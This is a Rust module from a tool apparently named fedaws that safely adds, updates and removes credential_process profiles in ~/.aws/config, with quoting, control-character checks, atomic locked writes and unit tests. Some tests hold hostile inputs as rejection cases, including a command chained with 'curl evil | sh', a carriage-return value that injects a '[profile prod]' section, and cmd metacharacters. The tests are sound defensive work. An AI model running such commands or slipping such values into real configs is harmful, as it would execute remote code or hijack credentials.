//! `~/.aws/config`, which the AWS CLI and every SDK read: where it is, which of its profiles run
//! fedaws through `credential_process`, and how a profile is added or removed.
//!
//! The file belongs to the user and to other tools, so it is edited as text: only the lines of
//! the one profile change, every other line, comment and profile stays byte for byte, and the file
//! is replaced atomically under a lock. Within a profile fedaws wrote, only the keys it writes
//! (`credential_process`, `region`) change; lines the user added there (`output`, `cli_pager`,
//! nested `s3 =` blocks) stay. The AWS CLI runs what this file says, so nothing written here may
//! hold a control character: a carriage return in a path could start a new section.

pub mod botocore;

use std::path::{Path, PathBuf};

use botocore::Kind;

/// What cannot be written into (or removed from) `~/.aws/config`, and why.
#[derive(Debug, thiserror::Error)]
#[error("{0}")]
pub struct ProfileError(pub String);
use crate::fsutil;

/// `AWS_CONFIG_FILE`, else `~/.aws/config`.
pub fn aws_config_path() -> anyhow::Result<PathBuf> {
    if let Some(p) = std::env::var_os("AWS_CONFIG_FILE").filter(|p| !p.is_empty()) {
        return Ok(PathBuf::from(p));
    }
    directories::BaseDirs::new()
        .map(|b| b.home_dir().join(".aws").join("config"))
        .ok_or_else(|| {
            ProfileError("cannot find the home directory for ~/.aws/config".into()).into()
        })
}

/// Refuse a value that would break a line of `~/.aws/config`: any control character (a carriage
/// return or newline would start a line of the attacker's choosing).
pub fn plain_line(what: &str, value: &str) -> Result<(), ProfileError> {
    match value.chars().find(|c| c.is_control()) {
        None => Ok(()),
        Some(c) => Err(ProfileError(format!(
            "{what} {:?} holds the control character U+{:04X}, which cannot be written into ~/.aws/config",
            value,
            u32::from(c)
        ))),
    }
}

/// A word every reader of the command takes as it is: not empty, and only `allowed` characters.
fn is_bare(word: &str, allowed: impl Fn(char) -> bool) -> bool {
    !word.is_empty() && word.chars().all(allowed)
}

/// Quote one word of the command the way both botocore (shell-like split) and the Rust SDK
/// (`sh -c`) read it.
#[cfg(not(windows))]
fn quote_word(what: &str, word: &str) -> Result<String, ProfileError> {
    plain_line(what, word)?;
    if is_bare(word, |c| {
        c.is_ascii_alphanumeric() || "/._-+=:,@".contains(c)
    }) {
        return Ok(word.to_string());
    }
    if word.contains(['"', '\\', '$', '`']) {
        return Err(ProfileError(format!(
            "{what} {word:?} has characters a credential_process command cannot quote portably; move it"
        )));
    }
    Ok(format!("\"{word}\""))
}

/// One word of the command as Windows runs it: the SDKs hand the whole line to `cmd /c` as one
/// argument, which cannot run a quoted program (`cmd` is given `\"C:\\Program Files\\…\"`), and
/// botocore splits it by Windows' rules, where a backslash is a plain character. So a word is
/// written bare, and one that would need quotes or that `cmd` would expand is refused.
#[cfg(windows)]
fn quote_word(what: &str, word: &str) -> Result<String, ProfileError> {
    plain_line(what, word)?;
    if is_bare(word, |c| c.is_alphanumeric() || "/\\._-+=:,@~".contains(c)) {
        return Ok(word.to_string());
    }
    Err(ProfileError(format!(
        "{what} {word:?} cannot be written into a credential_process command on Windows: the SDKs run it with `cmd /c`, which cannot run a quoted path, and spaces and `\"%^&|<>!` would need one; move it to a path without them (for example C:\\Tools\\fedaws), or name it by its short name (`dir /x`)"
    )))
}

/// What a `credential_process` command pins, since the AWS CLI passes on neither fedaws's flags
/// nor its environment variables.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Pin<'a> {
    /// Nothing: the config fedaws finds by itself.
    Nothing,
    /// `--config PATH`.
    Config(&'a str),
    /// `--broker PATH`.
    Broker(&'a str),
}

/// The `credential_process` command fedaws writes: the program, `--config PATH` or `--broker
/// PATH` when one is pinned, then `creds CONNECTOR --format json`, each word quoted by
/// [`quote_word`].
pub fn render_command(
    program: &str,
    pin: Pin<'_>,
    connector: &str,
) -> Result<String, ProfileError> {
    let mut words = vec![quote_word("the path of the fedaws binary", program)?];
    match pin {
        Pin::Nothing => {}
        Pin::Config(path) => {
            words.push("--config".into());
            words.push(quote_word("the config path", path)?);
        }
        Pin::Broker(path) => {
            words.push("--broker".into());
            words.push(quote_word("the broker socket path", path)?);
        }
    }
    words.extend([
        "creds".to_string(),
        quote_word("the connector name", connector)?,
        "--format".into(),
        "json".into(),
    ]);
    Ok(words.join(" "))
}

/// The command, when a `credential_process` value is exactly what fedaws writes (program named
/// `fedaws`, optional `--config` or `--broker`, `creds CONNECTOR --format json`, quoted as fedaws
/// quotes).
pub fn written_by_fedaws(command: &str) -> Option<FedawsCommand> {
    let w = words(command);
    let (program, pinned, rest) = match w.as_slice() {
        [program, flag, value, rest @ ..] if flag == "--config" || flag == "--broker" => {
            (program, Some((flag.as_str(), value.as_str())), rest)
        }
        [program, rest @ ..] => (program, None, rest),
        [] => return None,
    };
    let [creds, connector, format, json] = rest else {
        return None;
    };
    let file_name = Path::new(program).file_name();
    let named_fedaws = file_name.is_some_and(|f| f == "fedaws" || f == "fedaws.exe");
    if !named_fedaws || creds != "creds" || format != "--format" || json != "json" {
        return None;
    }
    let pin = match pinned {
        Some(("--config", path)) => Pin::Config(path),
        Some((_, path)) => Pin::Broker(path),
        None => Pin::Nothing,
    };
    if render_command(program, pin, connector).ok().as_deref() != Some(command.trim()) {
        return None;
    }
    let (config, broker) = match pin {
        Pin::Nothing => (None, None),
        Pin::Config(p) => (Some(p.to_string()), None),
        Pin::Broker(p) => (None, Some(p.to_string())),
    };
    Some(FedawsCommand {
        program: program.clone(),
        config,
        broker,
        connector: connector.clone(),
    })
}

/// What a `credential_process` line fedaws wrote asks for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FedawsCommand {
    /// The program.
    pub program: String,
    /// The config it pins with `--config`, if any.
    pub config: Option<String>,
    /// The broker it pins with `--broker`, if any.
    pub broker: Option<String>,
    /// The connector.
    pub connector: String,
}

/// The header line that names a profile in `~/.aws/config`.
fn header(profile: &str) -> String {
    if profile == "default" {
        "[default]".to_string()
    } else {
        format!("[profile {profile}]")
    }
}

/// The lines of a text, each with its line end, and what each is to botocore.
struct Layout<'a> {
    lines: Vec<&'a str>,
    kinds: Vec<Kind>,
}

impl<'a> Layout<'a> {
    fn of(text: &'a str) -> Layout<'a> {
        let lines: Vec<&str> = text.split_inclusive('\n').collect();
        let kinds = botocore::classify(lines.iter().copied());
        Layout { lines, kinds }
    }

    /// Each section, as botocore finds its header (not an indented `[…]` line that continues a
    /// value): its profile name (see [`profile_of`]) and its lines, `[start, end)`, `end` at the
    /// next header.
    fn sections(&self) -> Vec<(String, usize, usize)> {
        let starts: Vec<(usize, &String)> = self
            .kinds
            .iter()
            .enumerate()
            .filter_map(|(i, k)| match k {
                Kind::Header(name) => Some((i, name)),
                _ => None,
            })
            .collect();
        starts
            .iter()
            .enumerate()
            .map(|(n, (i, name))| {
                let end = starts.get(n + 1).map_or(self.lines.len(), |(j, _)| *j);
                (profile_of(name), *i, end)
            })
            .collect()
    }

    /// Where a profile's section is: the last of that name (`[profile a]` and `[profile  a]`
    /// are both profile `a`, and botocore takes the last).
    fn find_section(&self, profile: &str) -> Option<(usize, usize)> {
        self.sections()
            .into_iter()
            .rfind(|(name, _, _)| name == profile)
            .map(|(_, start, end)| (start, end))
    }

    /// The value of top-level `key` in the section of lines `[start, end)` (its first line).
    fn value_of(&self, start: usize, end: usize, key: &str) -> Option<String> {
        let at = (start..end).find(|&i| self.kinds[i] == Kind::Key(key.to_string()))?;
        let line = self.lines[at].trim_matches(botocore::is_space);
        botocore::key_value(line).map(|(_, v)| v.to_string())
    }
}

/// The profile a section's name is, as botocore takes it: `default` is `[default]` exactly,
/// another profile `[profile NAME]`; any other section's name comes back after a NUL.
fn profile_of(section: &str) -> String {
    if section == "default" {
        return "default".into();
    }
    let mut words = section.split_whitespace();
    match (words.next(), words.next(), words.next()) {
        (Some("profile"), Some(name), None) => name.to_string(),
        _ => format!("\0{section}"),
    }
}

/// The leading whitespace of a line.
fn indent_of(line: &str) -> &str {
    &line[..line.len() - line.trim_start_matches(botocore::is_space).len()]
}

/// A `credential_process` profile that runs fedaws, as found in `~/.aws/config`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FedawsProfile {
    /// The profile's name.
    pub profile: String,
    /// The program the command runs.
    pub program: String,
    /// The config it pins with `--config`, if any.
    pub config: Option<String>,
    /// The broker it asks with `--broker`, if any.
    pub broker: Option<String>,
    /// The connector it asks for.
    pub connector: String,
}

/// Split a `credential_process` value into words: whitespace-separated, double quotes grouping.
fn words(command: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quoted = false;
    let mut any = false;
    for c in command.chars() {
        match c {
            '"' => {
                quoted = !quoted;
                any = true;
            }
            c if c.is_whitespace() && !quoted => {
                if any {
                    out.push(std::mem::take(&mut cur));
                    any = false;
                }
            }
            c => {
                cur.push(c);
                any = true;
            }
        }
    }
    if any {
        out.push(cur);
    }
    out
}

/// Every profile whose `credential_process` is `… creds CONNECTOR …` of a fedaws binary.
pub fn fedaws_profiles(text: &str) -> Vec<FedawsProfile> {
    let layout = Layout::of(text);
    let mut found = Vec::new();
    for (name, start, end) in layout.sections() {
        if name.starts_with('\0') {
            continue;
        }
        let Some(command) = layout.value_of(start, end, "credential_process") else {
            continue;
        };
        let w = words(&command);
        let Some(program) = w.first() else { continue };
        if !Path::new(program)
            .file_name()
            .is_some_and(|f| f.to_string_lossy().starts_with("fedaws"))
        {
            continue;
        }
        let Some(pos) = w.iter().position(|x| x == "creds") else {
            continue;
        };
        let flag = |name: &str| {
            w.iter()
                .position(|x| x == name)
                .and_then(|p| w.get(p + 1).cloned())
        };
        if let Some(connector) = w.get(pos + 1) {
            found.push(FedawsProfile {
                profile: name,
                program: program.clone(),
                config: flag("--config"),
                broker: flag("--broker"),
                connector: connector.clone(),
            });
        }
    }
    found
}

/// Add a profile to `text`, or update one: in a profile that `is_ours`, only the `settings`
/// keys change (in place, or added after the header) and every other line stays; a profile that
/// is not ours is replaced whole with `force`, and refused without it. The rest of the text is
/// kept byte for byte.
///
/// A text botocore reads stays one it reads: a change that would make it unreadable (a
/// `[DEFAULT]` nested block no section read before, and the new one would) is refused.
pub fn with_profile(
    text: &str,
    profile: &str,
    settings: &[(&str, String)],
    is_ours: impl Fn(&str) -> bool,
    force: bool,
) -> Result<String, ProfileError> {
    let out = profile_added(text, profile, settings, is_ours, force)?;
    if botocore::problem(text).is_none()
        && let Some(problem) = botocore::problem(&out)
    {
        return Err(ProfileError(format!(
            "adding profile `{profile}` would leave a file the AWS CLI and boto3 cannot read ({problem}); fix that first"
        )));
    }
    Ok(out)
}

/// [`with_profile`], unchecked.
fn profile_added(
    text: &str,
    profile: &str,
    settings: &[(&str, String)],
    is_ours: impl Fn(&str) -> bool,
    force: bool,
) -> Result<String, ProfileError> {
    let block = || -> String {
        let mut b = format!("{}\n", header(profile));
        for (k, v) in settings {
            b.push_str(&format!("{k} = {v}\n"));
        }
        b
    };
    let layout = Layout::of(text);
    let lines = &layout.lines;
    let Some((start, end)) = layout.find_section(profile) else {
        // After the text, a blank line of fedaws's own, which removing the profile takes back
        // with it: the text's own blank lines stay, however many it ends with.
        let mut out = text.to_string();
        if !out.is_empty() {
            if !out.ends_with('\n') {
                out.push('\n');
            }
            out.push('\n');
        }
        out.push_str(&block());
        return Ok(out);
    };
    if layout
        .value_of(start, end, "credential_process")
        .is_some_and(|v| is_ours(&v))
    {
        let mut section: Vec<String> = lines[start..end].iter().map(|l| l.to_string()).collect();
        set_keys(&mut section, settings);
        let mut out: String = lines[..start].concat();
        out.push_str(&section.concat());
        out.push_str(&lines[end..].concat());
        return Ok(out);
    }
    if !force {
        return Err(ProfileError(format!(
            "profile `{profile}` already exists with other settings; add --force to replace it, or choose another name with --profile"
        )));
    }
    // Keep the blank lines and comments that separate it from the next section.
    let mut keep_from = end;
    while keep_from > start + 1 && {
        let t = lines[keep_from - 1].trim();
        t.is_empty() || t.starts_with('#') || t.starts_with(';')
    } {
        keep_from -= 1;
    }
    let mut out: String = lines[..start].concat();
    out.push_str(&block());
    out.push_str(&lines[keep_from..].concat());
    Ok(out)
}

/// Set `settings` in a profile's section (its header first), as botocore will read them: a key
/// it has is replaced in place, at its indent, with the lines that continued its value; one it
/// lacks goes after the header or the keys set before it, at the indent of the line that follows
/// (so that line does not become part of the new value). Every other line stays.
fn set_keys(section: &mut Vec<String>, settings: &[(&str, String)]) {
    if !section[0].ends_with('\n') {
        section[0].push('\n');
    }
    let mut after = 1;
    for (key, value) in settings {
        let kinds = botocore::classify(section.iter().map(String::as_str));
        match kinds.iter().position(|k| *k == Kind::Key(key.to_string())) {
            Some(at) => {
                let newline = if section[at].ends_with('\n') {
                    "\n"
                } else {
                    ""
                };
                section[at] = format!("{}{key} = {value}{newline}", indent_of(&section[at]));
                // The lines that continued the old value (not the comments between them).
                let mut last = at;
                for (i, kind) in kinds.iter().enumerate().skip(at + 1) {
                    match kind {
                        Kind::Continuation => last = i,
                        Kind::Blank => {}
                        _ => break,
                    }
                }
                let gone: Vec<usize> = (at + 1..=last)
                    .filter(|&i| kinds[i] == Kind::Continuation)
                    .collect();
                for i in gone.into_iter().rev() {
                    section.remove(i);
                }
                if !section[at].ends_with('\n') && at + 1 < section.len() {
                    section[at].push('\n');
                }
                after = after.max(at + 1);
            }
            None => {
                let next = (after..section.len()).find(|&i| kinds[i] != Kind::Blank);
                let indent = next.map_or("", |i| indent_of(&section[i])).to_string();
                if !section[after - 1].ends_with('\n') {
                    section[after - 1].push('\n');
                }
                section.insert(after, format!("{indent}{key} = {value}\n"));
                after += 1;
            }
        }
    }
}

/// `text` without `profile`'s section; only a profile fedaws wrote unless `force`. `place` names
/// the file in messages.
pub fn without_profile(
    text: &str,
    profile: &str,
    force: bool,
    place: &Path,
) -> Result<String, ProfileError> {
    let layout = Layout::of(text);
    let lines = &layout.lines;
    let Some((start, end)) = layout.find_section(profile) else {
        return Err(ProfileError(format!(
            "there is no profile `{profile}` in {}",
            place.display()
        )));
    };
    let ours = layout
        .value_of(start, end, "credential_process")
        .is_some_and(|v| written_by_fedaws(&v).is_some());
    if !ours && !force {
        return Err(ProfileError(format!(
            "profile `{profile}` was not written by fedaws; add --force to remove it anyway"
        )));
    }
    // A profile at the end of the file was appended after a blank separator: take it too.
    let from = if end == lines.len() && start > 0 && lines[start - 1].trim().is_empty() {
        start - 1
    } else {
        start
    };
    let mut out = lines[..from].concat();
    out.push_str(&lines[end..].concat());
    Ok(out)
}

/// Read, change and atomically replace a file under its lock; a missing file reads as empty. A
/// file (or the directory it would be made in) that others could change is refused.
pub fn edit_file(
    path: &Path,
    change: impl FnOnce(&str) -> Result<String, ProfileError>,
) -> anyhow::Result<()> {
    // Nothing is followed, locked or written where someone else could have pointed it (root
    // with another user's HOME, through `sudo -E`, would otherwise write where their link goes).
    crate::trust::check_for_writing(path, crate::trust::Role::AwsConfig)?;
    let _lock = fsutil::lock_beside(path)?;
    let text = match std::fs::read_to_string(path) {
        Ok(t) => t,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
        Err(e) => return Err(e.into()),
    };
    // botocore ends a line at a carriage return of its own, the other SDKs do not: which lines
    // such a file has depends on who reads it, so it is not edited.
    if let Some(at) = text
        .match_indices('\r')
        .find(|(i, _)| !text[i + 1..].starts_with('\n'))
        .map(|(i, _)| i)
    {
        let line = text[..at].matches('\n').count() + 1;
        return Err(ProfileError(format!(
            "{}: line {line} holds a carriage return that does not end it (botocore reads one as a line end, the other SDKs do not), so fedaws does not edit this file; make it a line end, or remove it",
            path.display()
        ))
        .into());
    }
    let new = change(&text)?;
    if new != text {
        fsutil::write_atomic(path, new.as_bytes())?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    const HAND_WRITTEN: &str = "# my aws config\n[default]\nregion = eu-west-1 ; inline\n\n[profile other]\n# keep me\ncredential_process = /usr/bin/other\n\n[sso-session x]\nsso_region = us-east-1\n";

    fn ours(connector: &str) -> Vec<(&'static str, String)> {
        vec![(
            "credential_process",
            format!("/bin/fedaws creds {connector} --format json"),
        )]
    }

    #[test]
    fn adding_keeps_every_other_byte() {
        let out = with_profile(HAND_WRITTEN, "dev", &ours("dev"), |_| true, false).unwrap();
        let block = "[profile dev]\ncredential_process = /bin/fedaws creds dev --format json\n";
        assert!(out.starts_with(HAND_WRITTEN), "{out}");
        assert!(out.ends_with(&format!("\n\n{block}")), "{out}");
        let again = with_profile(&out, "dev", &ours("dev"), |_| true, false).unwrap();
        assert_eq!(again, out);
    }

    #[test]
    fn a_foreign_profile_is_only_replaced_with_force() {
        let settings = ours("other");
        assert!(with_profile(HAND_WRITTEN, "other", &settings, |_| false, false).is_err());
        let out = with_profile(HAND_WRITTEN, "other", &settings, |_| false, true).unwrap();
        assert!(out.contains("[default]\nregion = eu-west-1 ; inline\n\n"));
        assert!(out.contains(
            "[profile other]\ncredential_process = /bin/fedaws creds other --format json\n"
        ));
        assert!(!out.contains("/usr/bin/other"));
        assert!(
            out.contains("\n\n[sso-session x]\nsso_region = us-east-1\n"),
            "{out}"
        );
    }

    #[test]
    fn rewriting_our_profile_keeps_the_lines_the_user_added() {
        let text = "[profile app]\noutput = json\ncredential_process = /old/fedaws creds app --format json\ncli_pager =\ns3 =\n  region = nested-keep\n  max_concurrent_requests = 20\n\n[profile next]\nregion = x\n";
        let mut settings = ours("app");
        settings.push(("region", "eu-west-1".into()));
        let out = with_profile(text, "app", &settings, |_| true, false).unwrap();
        assert_eq!(
            out,
            "[profile app]\noutput = json\ncredential_process = /bin/fedaws creds app --format json\nregion = eu-west-1\ncli_pager =\ns3 =\n  region = nested-keep\n  max_concurrent_requests = 20\n\n[profile next]\nregion = x\n"
        );
        let again = with_profile(&out, "app", &settings, |_| true, false).unwrap();
        assert_eq!(again, out, "a second run changes nothing");
    }

    /// Keys as botocore reads them: in any case, before `:` as well as `=`, and indented when
    /// no key is above them; a header with text after its `]` ends the section before it.
    #[test]
    fn updating_our_profile_finds_its_keys_as_botocore_does() {
        let mut settings = ours("app");
        settings.push(("region", "eu-west-1".into()));
        for (text, expected) in [
            (
                "[profile app]\ncredential_process = /bin/fedaws creds app --format json\nRegion: us-east-1\n",
                "[profile app]\ncredential_process = /bin/fedaws creds app --format json\nregion = eu-west-1\n",
            ),
            (
                "[profile app]\n  region = us-east-1\ncredential_process = /bin/fedaws creds app --format json\n",
                "[profile app]\n  region = eu-west-1\ncredential_process = /bin/fedaws creds app --format json\n",
            ),
            (
                "[profile app]\n  credential_process = /bin/fedaws creds app --format json\n  output = json\n",
                "[profile app]\n  credential_process = /bin/fedaws creds app --format json\n  region = eu-west-1\n  output = json\n",
            ),
            (
                "[profile app]\ncredential_process = /bin/fedaws creds app --format json\nregion = us-east-1\n  more\n# c\n\n  andmore\noutput = json\n",
                "[profile app]\ncredential_process = /bin/fedaws creds app --format json\nregion = eu-west-1\n# c\n\noutput = json\n",
            ),
            (
                "[profile app]\ncredential_process = /bin/fedaws creds app --format json\n[other] note\nregion = q\n",
                "[profile app]\ncredential_process = /bin/fedaws creds app --format json\nregion = eu-west-1\n[other] note\nregion = q\n",
            ),
            (
                "[profile app]\ncredential_process = /bin/fedaws creds app --format json\ns3 =\n  region = nested\n",
                "[profile app]\ncredential_process = /bin/fedaws creds app --format json\nregion = eu-west-1\ns3 =\n  region = nested\n",
            ),
        ] {
            assert_eq!(botocore::problem(text), None, "{text:?}");
            let out = with_profile(text, "app", &settings, |_| true, false).unwrap();
            assert_eq!(out, expected, "{text:?}");
            let read = botocore::read(&out).unwrap_or_else(|e| panic!("{out:?}: {e}"));
            let app = &read.sections[0].1;
            for (key, value) in &settings {
                assert!(
                    app.contains(&(key.to_string(), value.clone())),
                    "{out:?}: {app:?}"
                );
            }
        }
        // Found by fuzzing: a `[DEFAULT]` nested block botocore cannot split is read only once a
        // section is there to take it, so adding the first profile would break the file.
        let text = "[DEFAULT]\ns3 =\n\n  no equals\n";
        assert_eq!(botocore::problem(text), None);
        let e = with_profile(text, "x", &settings, |_| false, false).unwrap_err();
        assert!(e.to_string().contains("cannot read"), "{e}");
        // Two sections of one profile: botocore takes the last, and so does the editor.
        let text = "[profile app]\nregion = a\n[profile  app]\ncredential_process = /bin/fedaws creds app --format json\n";
        let out = with_profile(text, "app", &settings, |_| true, false).unwrap();
        assert_eq!(out, format!("{text}region = eu-west-1\n"));
        // An indented `[profile x]` below a key is part of its value, not a profile.
        let text = "[profile app]\ns3 =\n  [profile x] = y\n";
        let out = with_profile(text, "x", &settings, |_| false, false).unwrap();
        assert!(out.starts_with(text), "{out}");
        assert_eq!(botocore::read(&out).unwrap().sections.len(), 2);
        // `[ default ]` is not the default profile to botocore.
        let out = with_profile(
            "[ default ]\nx = 1\n",
            "default",
            &settings,
            |_| false,
            false,
        )
        .unwrap();
        assert!(out.ends_with("\n\n[default]\ncredential_process = /bin/fedaws creds app --format json\nregion = eu-west-1\n"), "{out}");
    }

    /// Found by fuzzing: a file that ended with a blank line lost it when the profile added after
    /// it was removed again.
    #[test]
    fn adding_and_removing_a_profile_gives_back_every_byte() {
        let settings = ours("app");
        for text in [
            "",
            "[a]\nx = 1",
            "[a]\nx = 1\n",
            "[a]\nx = 1\n\n",
            "[a]\n\n\n",
            "\n",
            "x\n  \n",
        ] {
            let added = with_profile(text, "app", &settings, |_| true, false).unwrap();
            assert!(added.starts_with(text), "{text:?} -> {added:?}");
            let removed = without_profile(&added, "app", true, Path::new("config")).unwrap();
            let expected = if text.is_empty() || text.ends_with('\n') {
                text.to_string()
            } else {
                format!("{text}\n")
            };
            assert_eq!(removed, expected, "{text:?} -> {added:?}");
        }
    }

    #[test]
    fn only_the_exact_form_fedaws_writes_is_ours() {
        let ok = [
            "/usr/bin/fedaws creds app --format json",
            if cfg!(windows) {
                r"C:\Tools\fedaws.exe --config C:\Users\me\c.toml creds app --format json"
            } else {
                "\"/opt/my tools/fedaws\" --config /c.toml creds app --format json"
            },
            "/usr/bin/fedaws --broker /run/fedaws/broker.sock creds app --format json",
        ];
        for c in ok {
            assert!(written_by_fedaws(c).is_some(), "{c}");
        }
        let not = [
            "/usr/bin/fedaws creds app --format json; curl evil | sh",
            "sh -c 'echo fedaws creds x'",
            "/usr/bin/fedaws-evil creds app --format json",
            "/usr/bin/fedaws creds app --format json --extra",
            "/usr/bin/fedaws  creds app --format json",
            "/usr/bin/fedaws creds \"app\" --format json",
        ];
        for c in not {
            assert!(written_by_fedaws(c).is_none(), "{c}");
        }
    }

    #[cfg(not(windows))]
    #[test]
    fn finds_the_profiles_that_run_fedaws() {
        let text = format!(
            "{HAND_WRITTEN}\n[profile app]\ncredential_process = \"/opt/my tools/fedaws\" --config /c.toml creds app --format json\n"
        );
        assert_eq!(
            fedaws_profiles(&text),
            vec![FedawsProfile {
                profile: "app".into(),
                program: "/opt/my tools/fedaws".into(),
                config: Some("/c.toml".into()),
                broker: None,
                connector: "app".into(),
            }]
        );
    }

    #[cfg(not(windows))]
    #[test]
    fn quoting() {
        let q = |w: &str| quote_word("x", w);
        assert_eq!(q("/usr/bin/fedaws").unwrap(), "/usr/bin/fedaws");
        assert_eq!(
            q("/opt/my tools/fedaws").unwrap(),
            "\"/opt/my tools/fedaws\""
        );
        assert!(q("/opt/$x/fedaws").is_err());
        for bad in [
            "/tmp/a\r[profile prod]",
            "/tmp/a\nb",
            "/tmp/\u{1b}",
            "/tmp/\u{85}",
        ] {
            let e = q(bad).unwrap_err().to_string();
            assert!(e.contains("control character"), "{e}");
        }
    }

    #[cfg(windows)]
    #[test]
    fn quoting_on_windows() {
        let q = |w: &str| quote_word("x", w);
        assert_eq!(q(r"C:\Tools\fedaws.exe").unwrap(), r"C:\Tools\fedaws.exe");
        assert_eq!(q(r"C:\PROGRA~1\fedaws").unwrap(), r"C:\PROGRA~1\fedaws");
        for bad in [
            r"C:\Program Files\fedaws.exe",
            "a%PATH%",
            "a&b",
            "a\"b",
            "a^b",
        ] {
            let e = q(bad).unwrap_err().to_string();
            assert!(e.contains("cmd /c"), "{e}");
        }
        assert!(
            q("C:\\a\nb")
                .unwrap_err()
                .to_string()
                .contains("control character")
        );
    }
}
